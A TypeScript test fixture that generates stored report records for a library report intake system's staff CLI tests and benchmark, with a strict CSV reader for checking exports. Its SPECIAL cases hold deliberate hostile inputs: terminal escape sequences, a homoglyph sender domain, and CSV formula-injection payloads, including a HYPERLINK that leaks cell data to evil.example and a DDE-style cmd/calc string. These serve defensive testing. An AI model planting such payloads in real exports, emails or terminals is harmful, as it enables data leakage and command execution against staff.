/**
 * Stored reports for the staff CLI tests and benchmark: built with the intake's own
 * `buildReportRecord` from realistic analyses (the multilingual sample reports, several statuses,
 * countries, Action Lines and weeks, resubmissions that supersede earlier reports, failed and
 * pending acknowledgments), plus the hostile cases staff must see safely; and a CSV reader to
 * check the export with.
 */
import { BatchWriteCommand, type DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { documentClient } from '#adapters/aws/document-client.ts';
import { loadCallProfile } from '#core/call-profile.ts';
import { buildReportRecord, isNewer, senderOf, senderPointerKey, type AckState, type ReportRecord } from '#core/record.ts';
import { ACTION_LINES, type ActionLine, type Problem, type ReportAnalysis, type Status } from '#core/types.ts';
import type { Emulators } from '#test/helpers/emulators.ts';
import { REPORTS } from '#test/fixtures/analysis/reports.ts';
import type { Target } from '../../functions/cli/reports-target.ts';

export const CALL_ID = 'wsis-2025';
const profile = loadCallProfile(CALL_ID);
const INTAKE_ADDRESS = profile.recipient;

/** The hostile senders and subjects every generated set holds. */
export const SPECIAL = {
  escapeSubject: 'Report \u001b[2J\u001b[31mURGENT\u001b[0m please read',
  escapeSender: 'it-desk@library-services.example',
  /** "bibliotеka" with a Cyrillic "е" (U+0435): looks like the Latin word. */
  mixedScriptSender: 'director@biblioth\u0435ka.org',
  formulaSender: 'reports@formula-library.example',
  formulaOrganization: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  formulaSubject: '@SUM(1+1)*cmd|\' /C calc\'!A0',
} as const;

/** A small deterministic generator (mulberry32), so every run stores the same reports. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const DOMAINS: Readonly<Record<string, string>> = {
  'en-kenya': 'knls.ac.ke',
  'fr-senegal': 'bu.ucad.sn',
  'es-colombia': 'bibliotecasmedellin.gov.co',
  'vi-national-library': 'nlv.gov.vn',
  'vi-ascii-lam-dong': 'thuvienlamdong.vn',
  'ru-rsl': 'rsl.ru',
  'ar-bibalex': 'bibalex.org',
  'zh-zhejiang': 'zjlib.cn',
  'ja-ndl': 'ndl.go.jp',
  'de-bremen': 'stabi-hb.de',
  'pt-rio': 'bperj.rj.gov.br',
};

const SUBJECTS: Readonly<Record<string, string>> = {
  en: 'Library contribution to the WSIS 2025 report',
  fr: 'Contribution de la bibliothèque au rapport SMSI 2025',
  es: 'Contribución de la biblioteca al informe CMSI 2025',
  vi: 'Báo cáo đóng góp của thư viện cho WSIS 2025',
  ru: 'Вклад библиотеки в доклад ВВУИО 2025',
  ar: 'مساهمة المكتبة في تقرير القمة العالمية لمجتمع المعلومات 2025',
  zh: '图书馆对2025年信息社会世界峰会报告的贡献',
  ja: 'WSIS 2025 報告への図書館の貢献',
  de: 'Beitrag der Bibliothek zum WSIS-Bericht 2025',
  pt: 'Contribuição da biblioteca para o relatório da CMSI 2025',
};

const FIRST_DAY = Date.parse('2025-08-18T00:00:00Z');
const WEEKS = 8;
const ID_ALPHABET = 'abcdefghijklmnopqrstuvwxyz0123456789';

function problem(code: Problem['code'], severity: Problem['severity'], message: string): Problem {
  return { code, severity, message };
}

interface Sender {
  readonly address: string;
  readonly name: string;
  readonly sample: (typeof REPORTS)[number];
}

export interface GeneratedReports {
  readonly records: ReportRecord[];
  /** The `SENDER#…/LATEST` pointers intake keeps, so that linking a report later finds them. */
  readonly pointers: Record<string, string>[];
}

/**
 * About `count` reports (each sender sends one to three), ignored messages among them, plus the
 * SPECIAL ones; current and superseded as intake links them.
 */
export function generateReports(count: number, seed = 2025): GeneratedReports {
  const next = random(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
  const id = (): string => Array.from({ length: 40 }, () => pick([...ID_ALPHABET])).join('');
  const drafts: ReportRecord[] = [];

  const build = (sender: Sender | null, overrides: Partial<ReportAnalysis> & { status: Status }, ack: Partial<AckState> | null): void => {
    const receivedAt = new Date(FIRST_DAY + Math.floor(next() * WEEKS * 7 * 86_400_000));
    const sample = sender?.sample ?? pick(REPORTS);
    const lines = sample.expected.actionLines.filter(() => next() < 0.6) as ActionLine[];
    if (next() < 0.2) lines.push(pick(ACTION_LINES));
    const actionLines = [...new Set(lines.length > 0 ? lines : [pick(ACTION_LINES)])].sort((a, b) => Number(a.slice(1)) - Number(b.slice(1)));
    const wordCount = overrides.status === 'ignored' ? 0 : 60 + Math.floor(next() * (overrides.status === 'accepted' ? 141 : 200));
    const late = receivedAt > profile.deadline;
    const recordId = id();
    const analysis: ReportAnalysis = {
      problems:
        overrides.status === 'needs_revision'
          ? [wordCount > profile.wordLimit ? problem('too_long', 'error', `The report has ${wordCount} words; the limit is 200.`) : problem('no_link', 'error', 'Add a link to your website or a project page.')]
          : overrides.status === 'ignored'
            ? [problem('auto_reply', 'error', 'An automatic reply, not a report.')]
            : late
              ? [problem('late', 'warning', 'The report arrived after the deadline.')]
              : [],
      wordCount,
      wordLimit: profile.wordLimit,
      language: overrides.status === 'ignored' ? 'en' : sample.language,
      actionLines: overrides.status === 'ignored' ? [] : actionLines,
      links: overrides.status === 'ignored' ? [] : [...sample.expected.links],
      source: next() < 0.2 ? 'attachment:WSIS report 2025.docx' : 'body',
      late,
      country: overrides.status === 'ignored' ? null : sample.expected.country,
      organization: overrides.status === 'ignored' ? null : sample.expected.organization,
      callId: CALL_ID,
      reportText: overrides.status === 'ignored' ? 'I am out of the office until Monday.' : sample.text,
      receivedAt,
      from: sender ? { address: sender.address, name: sender.name } : null,
      to: [{ address: INTAKE_ADDRESS, name: '' }],
      cc: [],
      subject: SUBJECTS[sample.language] ?? SUBJECTS.en ?? '',
      messageId: `<${recordId.slice(0, 12)}@${sender?.address.split('@')[1] ?? 'unknown.example'}>`,
      inReplyTo: null,
      references: [],
      date: receivedAt,
      headers: { 'content-language': sample.language },
      analysisVersion: '1',
      ...overrides,
    };
    const record = buildReportRecord({
      id: recordId,
      rawKey: `raw/${CALL_ID}/${recordId}`,
      analysis,
      ack: overrides.status === 'ignored' ? { send: false, reason: 'ignored' } : { send: true },
      now: new Date(receivedAt.getTime() + 2_000),
    });
    const sentAt = new Date(receivedAt.getTime() + 5_000).toISOString();
    const messageId = `010001${receivedAt.getTime().toString(16)}-${recordId.slice(0, 8)}-000000`;
    drafts.push(ack ? { ...record, ack: { ...record.ack, ...(ack.status === 'sent' ? { sentAt, messageId, attempts: 1 } : {}), ...ack } } : record);
  };

  const ackFor = (roll: number): Partial<AckState> => {
    if (roll < 0.85) return { status: 'sent' };
    if (roll < 0.9) return { status: 'failed', attempts: 3, lastError: 'SES SendRawEmail failed: Throttling: Maximum sending rate exceeded.' };
    if (roll < 0.95) return { status: 'failed', attempts: 1, lastError: 'SES SendRawEmail failed: MessageRejected: Email address is not verified.', permanent: true };
    return { status: 'pending', attempts: 1, leaseUntil: '2025-08-01T00:00:00.000Z' };
  };

  let sent = 0;
  for (let i = 0; sent < count; i += 1) {
    const sample = REPORTS[i % REPORTS.length] as (typeof REPORTS)[number];
    const domain = DOMAINS[sample.id] ?? 'library.example';
    const sender: Sender = { address: `${pick(['director', 'info', 'reference', 'digital', 'outreach'])}.${i}@${domain}`, name: sample.expected.organization ?? 'Library', sample };
    const submissions = 1 + Math.floor(next() * 3);
    for (let s = 0; s < submissions && sent < count; s += 1, sent += 1) {
      const status: Status = next() < 0.1 ? 'ignored' : next() < 0.65 ? 'accepted' : 'needs_revision';
      build(status === 'ignored' ? null : sender, { status }, status === 'ignored' ? null : ackFor(next()));
    }
  }
  // Auto-replies from senders who also report (the second sent one report): ignored messages never displace a report.
  const reported = drafts.filter((record) => record.status !== 'ignored' && record.from !== null);
  const [first] = reported;
  const single = reported.find((record) => record.from !== first?.from && reported.filter((other) => other.from === record.from).length === 1);
  for (const reporter of [first, single]) {
    if (reporter?.from) build({ address: reporter.from, name: 'Out of office', sample: REPORTS[0] as (typeof REPORTS)[number] }, { status: 'ignored' }, null);
  }

  const vietnamese = REPORTS.find((r) => r.id === 'vi-national-library') ?? (REPORTS[0] as (typeof REPORTS)[number]);
  build({ address: SPECIAL.escapeSender, name: 'IT desk\u001b]0;pwned\u0007', sample: vietnamese }, { status: 'accepted', subject: SPECIAL.escapeSubject }, { status: 'sent' });
  build({ address: SPECIAL.mixedScriptSender, name: 'Library director', sample: vietnamese }, { status: 'accepted' }, { status: 'sent' });
  build(
    { address: SPECIAL.formulaSender, name: '+Director', sample: vietnamese },
    { status: 'needs_revision', organization: SPECIAL.formulaOrganization, subject: SPECIAL.formulaSubject, reportText: `-2+3\n${vietnamese.text}` },
    { status: 'failed', attempts: 2, lastError: 'SES SendRawEmail failed: Throttling: Maximum sending rate exceeded.' },
  );

  return link(drafts);
}

/** The newest report of each sender is current, the older ones superseded by it, as intake links them. */
function link(drafts: ReportRecord[]): GeneratedReports {
  const newest = new Map<string, ReportRecord>();
  for (const record of drafts) {
    if (record.currentCall === undefined) continue;
    const key = senderOf(record);
    const known = newest.get(key);
    if (!known || isNewer(record, known)) newest.set(key, record);
  }
  const records = drafts.map((record) => {
    const latest = record.currentCall === undefined ? undefined : newest.get(senderOf(record));
    if (!latest || latest.id === record.id) return record;
    const superseded = Object.fromEntries(Object.entries(record).filter(([key]) => key !== 'currentCall'));
    return { ...superseded, supersededBy: latest.id } as ReportRecord;
  });
  const pointers = [...newest.entries()].map(([sender, record]) => ({
    ...senderPointerKey(CALL_ID, sender),
    reportId: record.id,
    receivedAt: record.receivedAt,
  }));
  return { records, pointers };
}

/** The emulators' table and bucket as the staff commands see them, for the call CALL_ID. */
export function targetFor(emulators: Emulators): Target {
  return {
    kind: 'local',
    clients: emulators.clients,
    doc: documentClient(emulators.clients.dynamodb),
    tableName: emulators.tableName,
    bucketName: emulators.bucketName,
    callId: CALL_ID,
    recipients: undefined,
    ackFrom: undefined,
    // The emulators' clients outlive each command.
    close: () => {},
  };
}

/** Writes the items 25 at a time (BatchWriteItem's maximum), retrying what DynamoDB leaves unprocessed. */
export async function storeItems(doc: DynamoDBDocumentClient, tableName: string, items: readonly object[]): Promise<void> {
  for (let start = 0; start < items.length; start += 25) {
    let requests = items.slice(start, start + 25).map((item) => ({ PutRequest: { Item: item as Record<string, unknown> } }));
    while (requests.length > 0) {
      const result = await doc.send(new BatchWriteCommand({ RequestItems: { [tableName]: requests } }));
      requests = (result.UnprocessedItems?.[tableName] ?? []) as typeof requests;
    }
  }
}

/**
 * A strict RFC 4180 reader: fields separated by commas, records ended by CRLF; a field holding a
 * quote, comma or line break must be quoted, its quotes doubled. Anything else throws, so a
 * quoting mistake in the export cannot pass unnoticed.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  const fail = (why: string): never => {
    throw new Error(`Not RFC 4180 CSV at character ${i}: ${why}`);
  };
  while (i < text.length) {
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) fail('a quoted field is not closed');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') fail('a quote or line break in an unquoted field');
        field += text[i++];
      }
    }
    row.push(field);
    field = '';
    if (text[i] === ',') i += 1;
    else if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
    } else fail('a field must end with a comma or CRLF');
  }
  if (row.length > 0) fail('the last record does not end with CRLF');
  return rows;
}
